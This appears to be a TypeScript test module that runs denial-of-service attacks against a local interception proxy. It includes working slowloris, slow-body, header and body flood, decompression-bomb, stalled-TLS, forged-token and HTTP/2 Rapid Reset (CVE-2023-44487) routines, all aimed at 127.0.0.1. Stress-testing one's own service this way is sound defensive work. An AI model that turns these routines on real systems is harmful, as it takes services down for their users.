import { connect as connectHttp2, constants } from 'node:http2'
import { connect, type Socket } from 'node:net'
import { connect as connectTls } from 'node:tls'
import { HUNGRY_HOST } from './hungry-upstream.ts'

/** Where the attack goes, and as whom. */
export interface Target {
  readonly port: number
  /** Of the attacking agent. */
  readonly token: string
  /** PEM: the interception CA. */
  readonly bundle: string
}

/** An attack under way. */
export interface Attack {
  stop(): void
}

/** Begins with so many connections. */
export type Begin = (target: Target, connections: number) => Attack

const EVERY_MS = 250
/** Before a connection that was ended is opened anew. */
const AGAIN_MS = 1_000
const SOURCES = 64

/** Keeps so many connections, each opened anew where it was ended; from many source addresses, so that ports do not run out. */
function keeping(count: number, open: (socket: Socket, index: number) => void, { port }: Target): Attack {
  const sockets = new Set<Socket>()
  let stopped = false
  const one = (index: number): void => {
    if (stopped) return
    const socket = connect({ port, host: '127.0.0.1', localAddress: `127.0.0.${2 + (index % SOURCES)}` })
    sockets.add(socket)
    socket.on('error', () => undefined)
    socket.once('close', () => {
      sockets.delete(socket)
      setTimeout(() => one(index), AGAIN_MS)
    })
    socket.once('connect', () => open(socket, index))
  }
  for (let index = 0; index < count; index += 1) one(index)
  return {
    stop: () => {
      stopped = true
      for (const socket of sockets) socket.destroy()
    },
  }
}

/** Writes again and again, as fast as it is taken. */
function pourInto(socket: Socket, bytes: string | Buffer): void {
  const more = (): void => {
    while (!socket.destroyed && socket.writable) if (!socket.write(bytes)) return void socket.once('drain', more)
  }
  more()
}

/** Writes a little every now and then. */
function drip(socket: Socket, bytes: string): void {
  const timer = setInterval(() => socket.write(bytes), EVERY_MS)
  socket.once('close', () => clearInterval(timer))
}

const get = (target: Target, path: string): string => `GET /hungry/v1/${path} HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer ${target.token}\r\n\r\n`
const post = (target: Target, framing: string): string => `POST /hungry/v1/sink HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer ${target.token}\r\n${framing}\r\n\r\n`
const asked = (target: Target): string => `CONNECT ${HUNGRY_HOST}:443 HTTP/1.1\r\nProxy-Authorization: Bearer ${target.token}\r\n\r\n`

export const halfOpen: Begin = (target, count) => keeping(count, () => undefined, target)

export const slowHeaders: Begin = (target, count) => keeping(count, (socket) => {
  socket.write('GET /hungry/v1/ok HTTP/1.1\r\nHost: a\r\n')
  drip(socket, 'X-A: b\r\n')
}, target)

export const endlessHeaders: Begin = (target, count) => keeping(count, (socket) => {
  socket.write('GET /hungry/v1/ok HTTP/1.1\r\nHost: a\r\n')
  pourInto(socket, `X-A: ${'a'.repeat(8_000)}\r\n`)
}, target)

export const slowBodies: Begin = (target, count) => keeping(count, (socket) => {
  socket.resume()
  socket.write(post(target, 'Content-Length: 1000000'))
  drip(socket, 'x')
}, target)

export const endlessBodies: Begin = (target, count) => {
  const chunk = `10000\r\n${'x'.repeat(65_536)}\r\n`
  return keeping(count, (socket) => {
    socket.resume()
    socket.write(post(target, 'Transfer-Encoding: chunked'))
    pourInto(socket, chunk)
  }, target)
}

export const endlessAnswersUnread: Begin = (target, count) => keeping(count, (socket) => {
  socket.pause()
  socket.write(get(target, 'endless'))
}, target)

export const bombs: Begin = (target, count) => keeping(count, (socket) => {
  socket.resume()
  socket.write(get(target, 'bomb'))
}, target)

export const silentTunnels: Begin = (target, count) => keeping(count, (socket) => {
  socket.resume()
  socket.write(asked(target))
}, target)

/** A TLS record that says it is 512 bytes long, and never is. */
const STALLED_HELLO = Buffer.from([0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01])

export const stalledHandshakes: Begin = (target, count) => keeping(count, (socket) => {
  socket.once('data', () => socket.write(STALLED_HELLO))
  socket.write(asked(target))
}, target)

export const requestsWithoutPause: Begin = (target, count) => keeping(count, (socket) => {
  const request = get(target, 'ok')
  socket.on('data', () => void socket.write(request))
  socket.write(request)
}, target)

export const forgedTokens: Begin = (target, count) => keeping(count, (socket) => {
  let serial = 0
  const forged = (): string => get({ ...target, token: `${target.token.slice(0, -10)}${String(serial++).padStart(10, 'A')}` }, 'ok')
  socket.on('data', () => void socket.write(forged()))
  socket.write(forged())
}, target)

/** CVE-2023-44487, in tunnels: streams that are reset as soon as they were opened. */
export const rapidReset: Begin = (target, count) => keeping(count, (socket) => {
  socket.once('data', () => {
    const tls = connectTls({ socket, servername: HUNGRY_HOST, ca: target.bundle, ALPNProtocols: ['h2'] })
    tls.on('error', () => socket.destroy())
    tls.once('secureConnect', () => {
      const session = connectHttp2(`https://${HUNGRY_HOST}`, { createConnection: () => tls })
      session.on('error', () => socket.destroy())
      session.once('close', () => socket.destroy())
      const burst = (): void => {
        for (let n = 0; n < 50 && !session.destroyed && !session.closed; n += 1) {
          const stream = session.request({ ':path': '/v1/ok' })
          stream.on('error', () => undefined)
          stream.close(constants.NGHTTP2_CANCEL)
        }
        if (!session.destroyed && !session.closed) setTimeout(burst, 5)
      }
      session.once('connect', burst)
    })
  })
  socket.write(asked(target))
}, target)
